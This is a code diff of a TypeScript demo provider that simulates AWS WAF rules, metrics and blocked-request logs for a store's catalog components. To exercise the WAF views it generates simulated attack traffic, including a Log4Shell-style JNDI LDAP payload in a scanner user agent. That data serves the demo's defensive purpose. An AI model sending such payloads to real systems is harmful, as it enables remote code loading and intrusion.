@@ -1,18 +1,19 @@
 import { Entity } from '@backstage/catalog-model';
 import { linksOf } from '@internal/backstage-plugin-aws-ops-common';
 import {
-  AwsOpsResolver,
   Clock,
   cyclePosition,
   seededRandom,
   StoreService,
 } from '@internal/backstage-plugin-aws-ops-node';
-import { WafRuleMetric } from '@internal/backstage-plugin-waf-common';
-import { WafConfig } from '../config';
-import { TrafficFilter } from '../logs/aggregate';
-import { parseWafLogLine } from '../logs/wafLogRecord';
-import { resolveWafTarget } from '../service/resolveWafTarget';
-import { WafLogLocation, WafProvider } from './types';
+import {
+  WafLogLocation,
+  WafLogQueryResult,
+  WafMetricQuery,
+  WafMetricSeries,
+  WafProvider,
+  WafWebAclDescription,
+} from './types';
 
 const SLOT_MS = 5 * 60_000;
 const HOUR_MS = 3_600_000;
@@ -72,6 +73,8 @@ const BOT_IPS = [
 
 interface DemoRequest {
   time: number;
+  /** The store component whose host and path the request went to. */
+  component?: string;
   action: 'ALLOW' | 'BLOCK';
   terminatingRuleId: string;
   terminatingRuleType: 'REGULAR' | 'RATE_BASED' | 'MANAGED_RULE_GROUP';
@@ -94,30 +97,81 @@ interface DemoComponent {
   name: string;
   type: string;
   webAcl?: string;
-  filter: TrafficFilter;
+  filter: { host?: string; pathPrefix: string };
   /** Mean allowed requests per 5 minutes in prod at the daily peak. */
   peakRate: number;
 }
 
+/** The demo web ACLs' rules: name, metric name (deliberately not the name), action or group. */
+const DEMO_RULES: Array<{
+  name: string;
+  metricName: string;
+  action?: 'Block' | 'Count';
+  group?: string;
+}> = [
+  { name: 'RateLimitLogin', metricName: 'rate-limit-login', action: 'Block' },
+  {
+    name: 'RateLimitCheckout',
+    metricName: 'rate-limit-checkout',
+    action: 'Block',
+  },
+  {
+    name: 'LoginVelocityWatch',
+    metricName: 'login-velocity-watch',
+    action: 'Count',
+  },
+  {
+    name: 'AWS-AWSManagedRulesKnownBadInputsRuleSet',
+    metricName: 'aws-known-bad-inputs',
+    group: 'AWSManagedRulesKnownBadInputsRuleSet',
+  },
+  {
+    name: 'AWS-AWSManagedRulesCommonRuleSet',
+    metricName: 'aws-common-rule-set',
+    group: 'AWSManagedRulesCommonRuleSet',
+  },
+  {
+    name: 'AWS-AWSManagedRulesSQLiRuleSet',
+    metricName: 'aws-sqli',
+    group: 'AWSManagedRulesSQLiRuleSet',
+  },
+  {
+    name: 'AWS-AWSManagedRulesBotControlRuleSet',
+    metricName: 'aws-bot-control',
+    group: 'AWSManagedRulesBotControlRuleSet',
+  },
+];
+
+const METRIC_ACTION: Record<WafMetricQuery['metricName'], string> = {
+  AllowedRequests: 'ALLOW',
+  BlockedRequests: 'BLOCK',
+  CountedRequests: 'COUNT',
+  CaptchaRequests: 'CAPTCHA',
+  ChallengeRequests: 'CHALLENGE',
+};
+
 /**
- * Simulates the WAF full logs of the store's web ACLs from the store's own
- * catalog files: every component gets shopper traffic under its host and
- * path, and a few get attacks (credential stuffing on identity-service's
- * login, card testing on checkout, SQL injection probes on search, scraping
- * bots on catalog browsing),
- * plus scanner noise no component owns. Events of a 5-minute slot depend only
- * on the seed and the slot, so any window shows the same events; the lines
- * are real WAF log JSON, parsed by the same code as real logs.
+ * Simulates the store's web ACLs from the store's own catalog files: every
+ * component gets shopper traffic under its host and path, and a few get
+ * attacks (credential stuffing on identity-service's login, card testing on
+ * checkout, SQL injection probes on search, scraping bots on catalog
+ * browsing), plus scanner noise no component owns. Requests of a 5-minute
+ * slot depend only on the seed and the slot. It answers the provider's three
+ * calls as AWS would: GetWebACL (rules with metric names, one label rule per
+ * component), GetMetricData sums by the real AWS/WAFV2 dimensions, and the
+ * blocked-requests Logs Insights query (real WAF log JSON, newest first).
  */
 export class DemoWafProvider implements WafProvider {
   readonly source = 'demo' as const;
   private readonly components: DemoComponent[];
+  /** Requests per location and slot; a bounded memo, oldest dropped first. */
+  private readonly slots = new Map<string, DemoRequest[]>();
 
   constructor(
     private readonly options: {
       services: StoreService[];
-      resolver: AwsOpsResolver;
-      wafConfig: WafConfig;
+      /** The label name before the component name, e.g. `inbestment:component:`. */
+      componentLabelPrefix: string;
       seed: string;
       clock: Clock;
     },
@@ -130,91 +184,222 @@ export class DemoWafProvider implements WafProvider {
             (e.spec?.type === 'service' || e.spec?.type === 'website'),
         )
         .map(entity => {
-          const { webAcl, filter } = resolveWafTarget(
-            entity,
-            linksOf(entity).waf,
-            options.resolver,
-            options.wafConfig,
-          );
+          const waf = linksOf(entity).waf;
           const popularity = seededRandom(
             `${options.seed}:waf:${entity.metadata.name}`,
           )();
           return {
             name: entity.metadata.name,
             type: String(entity.spec?.type),
-            webAcl,
-            filter,
+            webAcl: waf?.webAcl,
+            filter: { host: waf?.host, pathPrefix: waf?.pathPrefix ?? '/' },
             peakRate: 2 + Math.floor(popularity * 5),
           };
         }),
     );
   }
 
-  readLogLines(
-    location: WafLogLocation,
-    startMs: number,
-    endMs: number,
-  ): AsyncIterable<string[]> {
-    return this.pages(location, startMs, endMs);
+  async getWebAcl(location: WafLogLocation): Promise<WafWebAclDescription> {
+    const labelled = this.components.filter(c => c.webAcl === location.webAcl);
+    return {
+      Name: location.webAcl,
+      ARN: this.webAclArn(location),
+      LabelNamespace: `awswaf:${location.accountId}:webacl:${location.webAcl}:`,
+      VisibilityConfig: { MetricName: `${location.webAcl}-metrics` },
+      Rules: [
+        // The component label rules come first, so every request is labelled.
+        ...labelled.map((component, index) => ({
+          Name: `component-${component.name}`,
+          Priority: index,
+          Action: { Count: {} },
+          RuleLabels: [
+            { Name: `${this.options.componentLabelPrefix}${component.name}` },
+          ],
+          VisibilityConfig: { MetricName: `component-${component.name}` },
+        })),
+        ...DEMO_RULES.map((rule, index) => ({
+          Name: rule.name,
+          Priority: 100 + index,
+          ...(rule.group
+            ? {
+                OverrideAction: { None: {} },
+                Statement: {
+                  ManagedRuleGroupStatement: {
+                    VendorName: 'AWS',
+                    Name: rule.group,
+                  },
+                },
+              }
+            : { Action: { [rule.action!]: {} } }),
+          VisibilityConfig: { MetricName: rule.metricName },
+        })),
+      ],
+    };
   }
 
-  /** Hourly pages of the simulated log lines of `[startMs, endMs)`. */
-  private async *pages(
+  async getMetricData(
     location: WafLogLocation,
-    startMs: number,
-    endMs: number,
-  ): AsyncIterable<string[]> {
+    request: {
+      queries: WafMetricQuery[];
+      startMs: number;
+      endMs: number;
+      periodSeconds: number;
+    },
+  ): Promise<WafMetricSeries[]> {
+    const periodMs = request.periodSeconds * 1000;
+    const aclMetricName = `${location.webAcl}-metrics`;
+    const labelNamespace = `awswaf:${location.accountId}:webacl:${
+      location.webAcl
+    }:${this.options.componentLabelPrefix.replace(/:$/, '')}`;
+    const byMetricName = new Map(DEMO_RULES.map(r => [r.metricName, r.name]));
+    const sums = request.queries.map(() => new Map<number, number>());
+    for (const req of this.requests(location, request.startMs, request.endMs)) {
+      const period =
+        request.startMs +
+        Math.floor((req.time - request.startMs) / periodMs) * periodMs;
+      const counted = (req.countedBy ?? []).map(c =>
+        c.group ? `AWS-AWS${c.group.split('#AWS')[1]}` : c.ruleId,
+      );
+      request.queries.forEach((query, index) => {
+        const d = query.dimensions;
+        if (d.WebACL !== aclMetricName) return;
+        if (
+          (d.Region ?? undefined) !==
+          (location.scope === 'REGIONAL' ? location.region : undefined)
+        )
+          return;
+        const action = METRIC_ACTION[query.metricName];
+        let match: boolean;
+        if (d.LabelNamespace !== undefined) {
+          match =
+            d.LabelNamespace === labelNamespace &&
+            d.Label === req.component &&
+            (action === 'COUNT' ? counted.length > 0 : req.action === action);
+        } else if (d.Rule === 'ALL') {
+          match =
+            action === 'COUNT' ? counted.length > 0 : req.action === action;
+        } else {
+          const rule = byMetricName.get(d.Rule);
+          match =
+            action === 'COUNT'
+              ? !!rule && counted.includes(rule)
+              : req.action === action && req.terminatingRuleId === rule;
+        }
+        if (match) sums[index].set(period, (sums[index].get(period) ?? 0) + 1);
+      });
+    }
+    return request.queries.map((query, index) => {
+      const points = [...sums[index]].sort((a, b) => a[0] - b[0]);
+      return {
+        id: query.id,
+        timestamps: points.map(p => p[0]),
+        values: points.map(p => p[1]),
+      };
+    });
+  }
+
+  async queryLogs(
+    location: WafLogLocation,
+    request: {
+      queryString: string;
+      startMs: number;
+      endMs: number;
+      limit: number;
+    },
+  ): Promise<WafLogQueryResult> {
+    // Runs the service's one query: blocked requests, newest first, `limit` rows.
+    const lines: Array<{ time: number; line: string }> = [];
+    let scanned = 0;
+    let bytes = 0;
+    for (const slot of this.slotStarts(request.startMs, request.endMs)) {
+      const slotLines = this.slotLines(location, slot);
+      for (const { time, line, action } of slotLines) {
+        if (time < request.startMs || time >= request.endMs) continue;
+        scanned++;
+        bytes += line.length;
+        if (action !== 'ALLOW') lines.push({ time, line });
+      }
+    }
+    lines.sort((a, b) => b.time - a.time);
+    return {
+      status: 'Complete',
+      rows: lines.slice(0, request.limit).map(({ time, line }) => ({
+        '@timestamp': new Date(time)
+          .toISOString()
+          .replace('T', ' ')
+          .replace('Z', ''),
+        '@message': line,
+      })),
+      statistics: {
+        recordsMatched: lines.length,
+        recordsScanned: scanned,
+        bytesScanned: bytes,
+      },
+    };
+  }
+
+  private *slotStarts(startMs: number, endMs: number) {
     const end = Math.min(endMs, this.options.clock());
     for (
       let slot = Math.floor(startMs / SLOT_MS) * SLOT_MS;
       slot < end;
-      slot += SLOT_MS * 12
+      slot += SLOT_MS
     ) {
-      const lines: string[] = [];
-      for (let s = slot; s < Math.min(end, slot + SLOT_MS * 12); s += SLOT_MS) {
-        for (const line of this.slotLines(location, s)) {
-          const time = Number(/"timestamp":(\d+)/.exec(line)?.[1] ?? s);
-          if (time >= startMs && time < end) lines.push(line);
-        }
-      }
-      yield lines;
+      yield slot;
     }
   }
 
-  async readRuleMetrics(
-    location: WafLogLocation,
-    rules: string[],
-    startMs: number,
-    endMs: number,
-  ): Promise<WafRuleMetric[]> {
-    // AWS/WAFV2 counts every request of the web ACL; so does the simulation.
-    const metrics = new Map(
-      rules.map(rule => [rule, { rule, allowed: 0, blocked: 0, counted: 0 }]),
-    );
-    for await (const page of this.pages(location, startMs, endMs)) {
-      for (const line of page) {
-        const record = parseWafLogLine(line);
-        if (!record) continue;
-        const all = metrics.get('ALL');
-        const rule = metrics.get(record.ruleGroup ?? record.ruleId);
-        for (const metric of [all, rule]) {
-          if (!metric) continue;
-          if (record.action === 'ALLOW') metric.allowed++;
-          else metric.blocked++;
-        }
-        for (const counted of record.countedBy) {
-          const metric = metrics.get(counted);
-          if (metric) metric.counted++;
-        }
+  /** The simulated requests of `[startMs, endMs)`, up to the clock. */
+  private *requests(location: WafLogLocation, startMs: number, endMs: number) {
+    const end = Math.min(endMs, this.options.clock());
+    for (const slot of this.slotStarts(startMs, endMs)) {
+      for (const request of this.slotRequests(location, slot)) {
+        if (request.time >= startMs && request.time < end) yield request;
       }
     }
-    return [...metrics.values()].filter(
-      m => m.allowed || m.blocked || m.counted,
-    );
   }
 
-  /** The log lines of one 5-minute slot of one log group. */
-  private slotLines(location: WafLogLocation, slot: number): string[] {
+  private webAclArn(location: WafLogLocation) {
+    return `arn:aws:wafv2:${location.region}:${location.accountId}:${
+      location.scope === 'CLOUDFRONT' ? 'global' : 'regional'
+    }/webacl/${location.webAcl}/4f1c2a6e-7b3d-4e0a-9c1f-${location.accountId}`;
+  }
+
+  /** The log lines of one slot: real WAF log JSON (and now and then a truncated line). */
+  private slotLines(location: WafLogLocation, slot: number) {
+    const random = seededRandom(
+      `${this.options.seed}:waf:lines:${location.accountId}:${location.region}:${location.webAcl}:${slot}`,
+    );
+    const lines = this.slotRequests(location, slot).map(request => ({
+      time: request.time,
+      action: request.action,
+      line: JSON.stringify(this.logRecord(location, request, random)),
+    }));
+    if (random() < 1 / 24) {
+      lines.push({
+        time: slot + 1,
+        action: 'BLOCK',
+        line: `{"timestamp":${slot + 1},"formatVersion":1,"webaclId":"trunc`,
+      });
+    }
+    return lines;
+  }
+
+  private slotRequests(location: WafLogLocation, slot: number): DemoRequest[] {
+    const key = `${location.environment}:${location.accountId}:${location.region}:${location.webAcl}:${slot}`;
+    let requests = this.slots.get(key);
+    if (!requests) {
+      requests = this.simulateSlot(location, slot);
+      if (this.slots.size >= 5000) {
+        this.slots.delete(this.slots.keys().next().value!);
+      }
+      this.slots.set(key, requests);
+    }
+    return requests;
+  }
+
+  /** The requests of one 5-minute slot of one web ACL location. */
+  private simulateSlot(location: WafLogLocation, slot: number): DemoRequest[] {
     const { seed } = this.options;
     const random = seededRandom(
       `${seed}:waf:${location.accountId}:${location.region}:${location.webAcl}:${slot}`,
@@ -228,6 +413,7 @@ export class DemoWafProvider implements WafProvider {
 
     for (const component of this.components) {
       if (component.webAcl !== location.webAcl) continue;
+      const before = requests.length;
       const base = this.basePath(component);
       const allowed = poisson(
         random,
@@ -284,6 +470,9 @@ export class DemoWafProvider implements WafProvider {
       if (location.environment === 'prod') {
         requests.push(...this.scenario(random, slot, component, base, at));
       }
+      for (let i = before; i < requests.length; i++) {
+        requests[i].component = component.name;
+      }
     }
     // Scanners probing paths no component owns.
     for (let i = poisson(random, 1.2 * envFactor); i > 0; i--) {
@@ -310,18 +499,7 @@ export class DemoWafProvider implements WafProvider {
         userAgent: '${jndi:ldap://203.0.113.77/a}',
       });
     }
-    const lines = requests
-      .sort((a, b) => a.time - b.time)
-      .map(request =>
-        JSON.stringify(this.logRecord(location, request, random)),
-      );
-    // Now and then the delivery writes a truncated line.
-    if (random() < 1 / 24) {
-      lines.push(
-        `{"timestamp":${slot + 1},"formatVersion":1,"webaclId":"trunc`,
-      );
-    }
-    return lines;
+    return requests.sort((a, b) => a.time - b.time);
   }
 
   private scenario(
@@ -476,11 +654,7 @@ export class DemoWafProvider implements WafProvider {
     return {
       timestamp: request.time,
       formatVersion: 1,
-      webaclId: `arn:aws:wafv2:${location.region}:${location.accountId}:${
-        location.scope === 'CLOUDFRONT' ? 'global' : 'regional'
-      }/webacl/${location.webAcl}/4f1c2a6e-7b3d-4e0a-9c1f-${
-        location.accountId
-      }`,
+      webaclId: this.webAclArn(location),
       terminatingRuleId: request.terminatingRuleId,
       terminatingRuleType: request.terminatingRuleType,
       action: request.action,
@@ -547,7 +721,13 @@ export class DemoWafProvider implements WafProvider {
         scheme: 'https',
         host: request.host,
       },
-      labels: [],
+      labels: request.component
+        ? [
+            {
+              name: `awswaf:${location.accountId}:webacl:${location.webAcl}:${this.options.componentLabelPrefix}${request.component}`,
+            },
+          ]
+        : [],
     };
   }
 }
